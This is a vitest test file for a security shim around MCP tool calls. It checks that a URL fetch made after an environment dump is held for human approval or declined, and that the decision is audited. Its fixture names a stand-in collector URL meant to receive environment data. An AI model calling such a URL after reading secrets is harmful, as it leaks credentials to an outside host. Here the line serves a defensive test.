/**
 * Flow rules end to end: the SDK's real Client, the built CLI with the shipped default policy,
 * and the reference server (server-everything). get-env dumps the environment (a sensitive
 * read); gzip-file-as-resource fetches a URL (egress). After the first, the default rule asks a
 * person before the second: a client without elicitation is refused with a `vanguard approve`
 * code, naming the earlier call; a client with elicitation is asked, and a decline refuses it.
 * Each is an ordinary audit record. Without the first, the same call goes through.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, describe, expect, it } from 'vitest';
import { connectThroughShim, EVERYTHING_SERVER } from './sdk-harness.js';

const dir = mkdtempSync(path.join(tmpdir(), 'vanguard-flow-'));
// Approval codes are written here, not to the user's own state folder.
const env = { VANGUARD_STATE_DIR: path.join(dir, 'state') };
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const texts = (result: { content?: unknown }) => (result.content as Array<{ text?: string }>).map((c) => c.text ?? '').join('\n');
// Never fetched: the call is refused before it reaches the server.
const OUT = { name: 'out.gz', data: 'https://collector.example.net/upload?d=env', outputType: 'resource' };

describe('flow rules through the shim (server-everything)', () => {
  it('get-env, then a tool that fetches a URL: refused with an approval code, naming get-env, and audited', async () => {
    const audit = path.join(dir, 'audit.jsonl');
    const session = await connectThroughShim(['--audit', audit], process.execPath, [EVERYTHING_SERVER], { env });
    try {
      await session.client.listTools();
      const env = await session.client.callTool({ name: 'get-env', arguments: {} });
      expect(env.isError).toBeFalsy();
      const out = await session.client.callTool({ name: 'gzip-file-as-resource', arguments: OUT });
      expect(out.isError).toBe(true);
      const text = texts(out);
      expect(text).toMatch(/^Vanguard needs a person's approval before "gzip-file-as-resource" runs \(rule flow\.sensitive-read-then-egress\): this call \(egress: /);
      expect(text).toContain('after the call to "get-env"');
      expect(text).toContain('put "sensitive-read" on the session');
      expect(text).toMatch(/`vanguard approve [A-Z0-9]{8}`/);
    } finally {
      await session.close();
    }
    const records = readFileSync(audit, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>);
    const refusal = records.find((r) => r.tool === 'gzip-file-as-resource' && r.direction === 'client' && r.verdict !== 'drop');
    expect(refusal).toMatchObject({ verdict: 'block', rules: ['approval.code', 'flow.sensitive-read-then-egress'] });
    expect(refusal?.detail?.flow?.after).toMatchObject({ tool: 'get-env', label: 'sensitive-read', source: 'call' });
    const envCall = records.find((r) => r.tool === 'get-env' && r.direction === 'client' && r.verdict === 'forward');
    expect(envCall?.detail?.flow).toEqual({ labels: ['sensitive-read'] });
  });

  it('with a client that can show a question: the person is asked, and a decline refuses the call', async () => {
    const asked: string[] = [];
    const audit = path.join(dir, 'asked.jsonl');
    const session = await connectThroughShim(['--audit', audit], process.execPath, [EVERYTHING_SERVER], {
      env,
      capabilities: { elicitation: { form: {} } },
      setup: (client) =>
        client.setRequestHandler(ElicitRequestSchema, async (request) => {
          asked.push(String((request.params as { message?: unknown }).message));
          return { action: 'decline' };
        }),
    });
    try {
      await session.client.listTools();
      expect((await session.client.callTool({ name: 'get-env', arguments: {} })).isError).toBeFalsy();
      const out = await session.client.callTool({ name: 'gzip-file-as-resource', arguments: OUT });
      expect(out.isError).toBe(true);
      expect(texts(out)).toContain('did not run "gzip-file-as-resource"');
      expect(asked).toHaveLength(1);
      expect(asked[0]).toContain('flow.sensitive-read-then-egress');
      expect(asked[0]).toContain('"get-env"');
    } finally {
      await session.close();
    }
    // Asked, then declined: never forwarded to the server.
    const gzip = readFileSync(audit, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>).filter((r) => r.tool === 'gzip-file-as-resource' && r.direction === 'client');
    expect(gzip.map((r) => [r.verdict, r.rules])).toEqual([
      ['drop', ['approval.asked', 'flow.sensitive-read-then-egress']],
      ['block', ['approval.declined', 'flow.sensitive-read-then-egress']],
    ]);
  });

  it('the same call without get-env before it goes through', async () => {
    const session = await connectThroughShim([], process.execPath, [EVERYTHING_SERVER]);
    try {
      await session.client.listTools();
      const local = { name: 'local.gz', data: `data:text/plain;base64,${Buffer.from('hello').toString('base64')}`, outputType: 'resource' };
      const out = await session.client.callTool({ name: 'gzip-file-as-resource', arguments: local });
      expect(out.isError).toBeFalsy();
      expect(out.content).toMatchObject([{ type: 'resource', resource: { mimeType: 'application/gzip' } }]);
    } finally {
      await session.close();
    }
  });
});
